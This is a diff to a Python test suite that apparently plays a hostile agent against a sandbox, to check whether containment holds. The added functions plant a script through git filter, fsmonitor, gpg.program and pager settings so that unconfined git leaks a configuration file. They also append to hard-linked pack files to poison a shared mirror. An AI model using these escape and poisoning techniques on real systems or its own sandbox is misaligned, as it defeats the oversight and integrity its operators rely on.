@@ -171,6 +171,61 @@ def attack_message_only() -> None:
     record("message_only", True, "a token shape only in a commit message")
 
 
+def attack_whoami() -> None:
+    """Which account the agent runs as: ``id -u`` written into the state directory."""
+    uid = subprocess.run(["id", "-u"], capture_output=True, text=True, check=True).stdout
+    (STATE / "whoami.txt").write_text(uid)
+    record("whoami", True, f"uid {uid.strip()}")
+
+
+def attack_commit() -> None:
+    """Ordinary work: a file written and committed by the agent's own git."""
+    Path("agent.txt").write_text("written and committed by the agent\n")
+    done = git("add", "agent.txt")
+    if done.returncode == 0:
+        done = git("commit", "-q", "-m", "the agent's own commit")
+    record("commit", done.returncode == 0, done.stderr.strip()[:300] or "committed")
+
+
+def attack_git_config() -> None:
+    """Commands for cgr's own git (unconfined, after the agent) to run: each reads cgr's
+    configuration into ``git-escape.txt`` in the state directory. Confined, the same read
+    fails, so anything in that file came from outside the sandbox."""
+    config, out = SPEC["read"]["config.toml"], STATE / "git-escape.txt"
+    script = Path(".git/escape.sh")
+    script.write_text(f"#!/bin/sh\ncat '{config}' >> '{out}' 2>/dev/null\ncat\n")
+    script.chmod(0o755)
+    evil = str(script.resolve())
+    settings = {"filter.spy.clean": evil, "filter.spy.smudge": "cat",
+                "filter.spy.required": "true", "diff.spy.textconv": evil,
+                "core.fsmonitor": evil, "commit.gpgSign": "true", "gpg.program": evil,
+                "core.pager": evil}  # fmt: skip
+    failed = [k for k, v in settings.items() if git("config", k, v).returncode != 0]
+    Path(".git/info").mkdir(exist_ok=True)
+    Path(".git/info/attributes").write_text("* filter=spy diff=spy\n")
+    record("git_config", not failed, f"planted {len(settings) - len(failed)} settings")
+
+
+def attack_poison_mirror() -> None:
+    """Write into the object files the checkout shares with cgr's mirror (hard links: one
+    inode). Read-only files owned by root, but the agent runs as root without
+    capabilities, and an owner may chmod its own file."""
+    written = []
+    for pack in sorted(Path(".git/objects/pack").glob("*")):
+        if pack.stat().st_nlink < 2:
+            continue
+        try:
+            pack.chmod(0o644)
+            with pack.open("r+b") as f:
+                f.seek(0, 2)
+                f.write(b"poisoned")
+            written.append(pack.name)
+        except OSError as exc:
+            record("poison_mirror", False, f"{type(exc).__name__}: {exc.strerror}")
+            return
+    record("poison_mirror", bool(written), f"wrote into {written or 'no shared file'}")
+
+
 def attack_hang() -> None:
     record("hang", True, "sleeping")
     (STATE / "hostile.json").write_text(json.dumps(results, indent=1))
